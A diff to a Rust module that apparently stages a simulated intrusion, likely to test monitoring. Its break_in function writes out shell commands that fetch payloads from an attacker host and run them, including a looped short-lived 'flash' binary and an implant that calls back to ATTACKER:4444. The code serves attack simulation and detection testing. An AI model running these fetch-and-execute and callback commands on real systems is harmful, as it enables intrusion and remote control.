@@ -22,6 +22,10 @@ use crate::wait;
 
 /// How often `vim` calls back.
 pub const CALLBACKS: usize = 6;
+/// How often the short step is taken: a busy machine may interrupt one of them for longer than it lives.
+pub const FLASHES: usize = 8;
+/// What the short step passes to `exit`.
+pub const FLASH_CODE: u8 = 42;
 const PATIENCE: Duration = Duration::from_secs(20);
 
 /// Where the story has come to; whoever watches may act.
@@ -46,10 +50,8 @@ pub struct Record {
     pub x: Seen,
     /// The implant.
     pub vim: Seen,
-    /// The step of less than a millisecond.
-    pub flash: u32,
-    /// What it passed to `exit`.
-    pub flash_code: u8,
+    /// The steps of less than a millisecond each, where the machine lets them.
+    pub flashes: Vec<u32>,
     /// SHA-256 of `x`, `vim` and `flash`, before they were deleted.
     pub sha256: BTreeMap<String, String>,
     /// As the attacker saw them.
@@ -90,8 +92,7 @@ pub fn play(mut watch: impl FnMut(Moment) -> Result<()>) -> Result<Record> {
         shell: said("shell")?,
         x,
         vim,
-        flash: said("flash")?,
-        flash_code: u8::try_from(said("code")?)?,
+        flashes: answer.lines().filter_map(|line| line.strip_prefix("flash=")?.parse().ok()).collect(),
         sha256: attacker::PAYLOADS
             .iter()
             .map(|name| Ok(((*name).to_owned(), sha256(attacker.payload(name))?)))
@@ -112,7 +113,9 @@ fn break_in() -> String {
         "cd ~/dashboard || exit 1; echo shell=$$",
         fetch,
         &format!("fetch {from}/x x; ./x >/dev/null 2>&1 & echo x=$!"),
-        &format!("fetch {from}/flash .t; ./.t & t=$!; wait $t; echo code=$?; echo flash=$t"),
+        &format!(
+            "for i in $(seq {FLASHES}); do fetch {from}/flash .t; ./.t & wait $! || echo flash=$!; done"
+        ),
         &format!("fetch {from}/vim vim; ./vim {ATTACKER}:4444 {CALLBACKS} >/dev/null 2>&1 & echo vim=$!"),
     ]
     .join("\n")
